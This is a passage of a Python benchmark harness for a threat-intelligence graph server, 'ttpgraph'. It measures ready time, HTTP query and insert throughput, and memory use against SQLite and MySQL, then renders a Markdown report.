        L.append(f"| store insert_tags, batch {s['batch']:,} × {s['concurrency']} | "
                 f"{DECNET_INSERT_TAGS_S[dialect]:,.0f} tags/s | {ms(s['p50_ms'])} / {ms(s['p99_ms'])} | – | "
                 f"{s['tags_per_s']:,.0f} tags/s | {mark(s['tags_per_s'] >= 10 * DECNET_INSERT_TAGS_S[dialect])} | – | "
                 f"≥ 100,000 tags/s {mark(s['tags_per_s'] >= 100000)} |")
    if "export" in floors:
        e = floors["export"]
        L.append(f"| export rollup (store only, 1 caller) | {DECNET_EXPORT_MS[dialect]:,.0f} ms | {ms(e['p50_ms'])} / "
                 f"{ms(e['p99_ms'])} | {ms(e['p50_ms'])} | {num(e['rps'], 2)} | {mark(e['rps'] >= 10 * 1000 / DECNET_EXPORT_MS[dialect])} | "
                 f"{mark(e['p50_ms'] < DECNET_EXPORT_MS[dialect])} | |")
    rt = statistics.median(ctx["ready"]) * 1000
    L.append(f"| ready time | – | {rt:.0f} ms | – | – | – | – | ≤ 200 ms {mark(rt <= 200)} |")
    L.append(f"| server RSS (VmHWM) | – | {ctx['hwm']:.1f} MiB | – | – | – | – | ≤ 150 MB {mark(ctx['hwm'] * 1.048576 <= 150)} |")
    return "\n".join(L) + "\n"


# ---------------------------------------------------------------------------------


def bench_dialect(dialect: str, a) -> Path:
    stamp_time = dt.datetime.now().strftime("%Y%m%d-%H%M%S")
    out_dir = OUT / f"{stamp_time}-{dialect}"
    out_dir.mkdir(parents=True, exist_ok=True)
    log(f"\n=== {dialect}: output in {out_dir.relative_to(ROOT)} ===")
    url = database_url(dialect, a)
    if dialect == "mysql":
        helper(["create-db", "--database-url", url])
    stamp = ensure_fleet(dialect, a)
    t0 = time.perf_counter()
    run([TTPGRAPH, "migrate", "--database-url", url], env_extra={"TTPGRAPH_LOG": "warn"})
    log(f"  migrate took {time.perf_counter() - t0:.2f} s (so the ready time below measures no migration)")
    ids, ids_path = ensure_ids(dialect, url, stamp, a.rotate)
    f = ids["fleet"]
    log(f"  fleet: {f['tags']:,} tags, {f['attackers']:,} attackers, {f['identities']:,} identities, "
        f"{f['campaigns']:,} campaigns, {f['sessions_with_tags']:,} sessions with tags; identity scope sizes "
        f"{f['identity_tag_counts']}")
    db_pid = None if dialect == "sqlite" else find_pid(("mariadbd", "mysqld"))
    nonce = f"{int(time.time())}"
    ctx = {"stamp": stamp, "ids": ids, "ops": [], "floors": {}, "store_inserts": [],
           "when": dt.datetime.now().strftime("%Y-%m-%d %H:%M"),
           "loadavg": " ".join(Path("/proc/loadavg").read_text().split()[:3]),
           "git": run(["git", "-C", ROOT, "describe", "--always", "--dirty"], quiet=True).stdout.strip()}

    port = free_port()
    server = Server(url, port, out_dir / "server.log", a)
    ready = []
    log(f"server: {a.ready_runs} timed starts")
    for i in range(a.ready_runs):
        ready.append(server.start(a.ready_timeout, quiet=i > 0))
        if i < a.ready_runs - 1:
            server.stop()
    log(f"  ready after {', '.join(f'{x * 1000:.0f}' for x in ready)} ms")
    ctx["ready"] = ready
    time.sleep(0.5)
    ctx["rss_idle"] = server.status().get("VmRSS", float("nan"))

    try:
        for op in operations(ids, a):
            log(f"\n[{dialect}] {op['name']}: {op['label']} ({op['scope']})")
            op["result"] = http_op(server, op, out_dir, db_pid, a, nonce)
            ctx["ops"].append(op)
            if op["floor"] and not a.no_floor:
                ctx["floors"][op["floor"]] = floor_op(
                    op["floor"], url, ids_path, a, (op["result"]["window_s"], op["result"]["warmup_s"]))
        reads = [o["result"]["rss_max_mib"] for o in ctx["ops"]]
        ctx["rss_reads"] = max(reads) if reads else float("nan")
        if not a.no_floor and (not a.ops or "export" in a.ops.split(",")):
            log(f"\n[{dialect}] export rollup, store only (one caller)")
            r = helper(["floor", "--database-url", url, "--ids", str(ids_path), "--ops", "export",
                        "--concurrency", "1", "--duration", f"{a.duration:g}", "--warmup", "0"])[0]
            log(f"  → {r['calls']} calls, p50 {r['p50_ms']:.0f} ms")
            ctx["floors"]["export"] = r
        if not a.ops or "insert_tags" in a.ops.split(","):
            op = dict(name="insert_tags", label=f"`insertTags`, {a.insert_batch} fresh tags per request",
                      scope=f"{a.insert_batch} tags/request", template=insert_template(a.insert_batch),
                      expect=f'"inserted":{a.insert_batch}', floor=None, opname="InsertTags")
            log(f"\n[{dialect}] insert_tags: {op['label']}")
            op["result"] = http_op(server, op, out_dir, db_pid, a, nonce)
            ctx["ops"].append(op)
            ctx["rss_insert"] = op["result"]["rss_max_mib"]
            for batch, writers in ((a.insert_batch, a.concurrency), (500, 1), (5000, 1)):
                log(f"\n[{dialect}] store insert_tags, batch {batch}, {writers} writer(s)")
                s = helper(["insert", "--database-url", url, "--batch", str(batch), "--concurrency", str(writers),
                            "--duration", f"{a.insert_duration:g}", "--max-tags", str(a.insert_max_tags),
                            "--nonce", f"{nonce}-{batch}-{writers}"])
                log(f"  → {s['tags_per_s']:,.0f} tags/s ({s['inserted']:,} tags in {s['seconds']:.1f} s), "
                    f"errors {s['errors']}")
                ctx["store_inserts"].append(s)
                if batch == a.insert_batch and writers == a.concurrency:
                    ctx["floors"]["insert_tags"] = s
        ctx.setdefault("rss_insert", float("nan"))
        end = server.status()
        ctx["hwm"] = end.get("VmHWM", float("nan"))
        ctx["end_status"] = ", ".join(f"{k} {v:.1f} MiB" for k, v in end.items())
        ctx["anon_max"] = max([o["result"]["anon_max_mib"] for o in ctx["ops"]] or [float("nan")])
    finally:
        server.stop()
        log("\ncleanup: deleting the benchmark's tags")
        ctx["cleanup"] = helper(["cleanup", "--database-url", url])
        log(f"  deleted {ctx['cleanup']['deleted']:,} in {ctx['cleanup']['seconds']:.1f} s")

    md = report(dialect, ctx, a)
    path = OUT / f"{stamp_time}-{dialect}.md"
    path.write_text(md)
    (out_dir / "results.json").write_text(json.dumps(
        {k: v for k, v in ctx.items() if k != "ops"} | {"dialect": dialect, "args": vars(a)} | {"ops": [
            {k: v for k, v in o.items() if k not in ("bodies", "template")} for o in ctx["ops"]]},
        indent=2, default=str) + "\n")
    log("\n" + md)
    log(f"written to {path.relative_to(ROOT)}")
    return path


def main() -> None:
    p = argparse.ArgumentParser(prog="bench/run.sh", description=__doc__,
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("dialect", nargs="?", default="all", choices=["sqlite", "mysql", "all"])
    p.add_argument("--rebuild", action="store_true", help="rebuild the fleet even when the stamp matches")
    p.add_argument("--duration", type=int, default=int(os.environ.get("BENCH_DURATION", 10)),
                   help="measured seconds per operation, whole seconds as wrk wants (default 10)")
    p.add_argument("--warmup", type=int, default=int(os.environ.get("BENCH_WARMUP", 2)),
                   help="unmeasured seconds before each operation, 0 for none (default 2)")
    p.add_argument("--max-duration", type=int, default=120,
                   help="longest measured window of a slow operation (default 120 s)")
    p.add_argument("--concurrency", type=int, default=16)
    p.add_argument("--wrk-threads", type=int, default=2)
    p.add_argument("--ops", default=os.environ.get("BENCH_OPS", ""),
                   help="comma-separated subset (identity_median, identity_max, attacker, session, campaign, "
                        "fleet, inspector, attackers_page, attackers_page_1, typename, export, insert_tags)")
    p.add_argument("--no-floor", action="store_true", help="skip the store+SQL floor")
    p.add_argument("--rotate", type=int, default=50, help="ids to rotate over where the benchmark rotates")
    p.add_argument("--seed", type=int, default=42)
    p.add_argument("--attackers", type=int, default=30_000)
    p.add_argument("--tags", type=int, default=1_000_000)
    p.add_argument("--demo-batch", type=int, default=5_000)
    p.add_argument("--mysql-url", default=os.environ.get("BENCH_MYSQL_URL", "mysql://root@127.0.0.1:3306/ttpbench"))
    p.add_argument("--insert-batch", type=int, default=500)
    p.add_argument("--insert-duration", type=float, default=10.0, help="seconds per store insert run (at most)")
    p.add_argument("--insert-max-tags", type=int, default=200_000, help="tags per store insert run (at most)")
    p.add_argument("--max-body-bytes", type=int, default=64 * 1024,
                   help="the server's body limit for reads (its default; in open mode the caller is "
                        "an admin, whose 4 MiB write limit admits a 500-tag insertTags)")
    p.add_argument("--report", metavar="RESULTS_JSON", help="only re-render the report of an earlier run")
    p.add_argument("--ready-runs", type=int, default=5)
    p.add_argument("--probe-requests", type=int, default=10,
                   help="sequential requests per operation that check bodies and count statements")
    p.add_argument("--ready-timeout", type=float, default=60.0)
    a = p.parse_args()
    if a.duration < 1 or a.warmup < 0:
        p.error("--duration must be at least 1 and --warmup at least 0")

    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    atexit.register(kill_children)
    DATA.mkdir(parents=True, exist_ok=True)
    OUT.mkdir(parents=True, exist_ok=True)
    for f in (TTPGRAPH, HELPER):
        if not f.exists():
            raise SystemExit(f"FAILED: {f} is missing: run bench/run.sh, which builds it")
    if a.report:
        # Re-render a report from a run's results.json (e.g. after changing the report).
        ctx = json.loads(Path(a.report).read_text())
        dialect = ctx.get("dialect") or ("mysql" if "-mysql" in a.report else "sqlite")
        saved = argparse.Namespace(**(ctx.get("args") or vars(a)))
        sys.stdout.write(report(dialect, ctx, saved))
        return
    dialects = ["sqlite", "mysql"] if a.dialect == "all" else [a.dialect]
    written = [bench_dialect(d, a) for d in dialects]
    log("\nreports: " + ", ".join(str(w.relative_to(ROOT)) for w in written))


if __name__ == "__main__":
    main()
